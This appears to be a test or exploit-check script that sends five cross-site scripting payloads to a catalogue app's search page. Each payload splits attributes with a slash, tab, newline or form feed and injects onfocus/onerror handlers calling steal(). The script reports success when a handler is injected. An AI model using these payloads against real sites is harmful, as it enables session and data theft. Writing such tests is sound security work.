"""A slash, a tab, a line end or a form feed separates the handler from what stands before it."""

import sys
from html.parser import HTMLParser
from urllib.parse import urlencode

from catalogue import app

PAYLOADS = (
    'cat"/onfocus="steal()',
    'cat"\tonfocus="steal()',
    'cat"\nonfocus="steal()',
    'cat"\fonfocus="steal()',
    '<img src="x"/onerror=steal()>',
)


class Attributes(HTMLParser):
    """The names of all attributes of a page."""

    def __init__(self):
        super().__init__()
        self.names = []

    def handle_starttag(self, tag, attrs):
        self.names += [name for name, value in attrs]


for payload in PAYLOADS:
    environ = {"PATH_INFO": "/search", "QUERY_STRING": urlencode({"q": payload})}
    attributes = Attributes()
    attributes.feed(b"".join(app(environ, lambda status, headers: None)).decode())
    if {"onfocus", "onerror"} & set(attributes.names):
        sys.exit(0)
sys.exit(1)
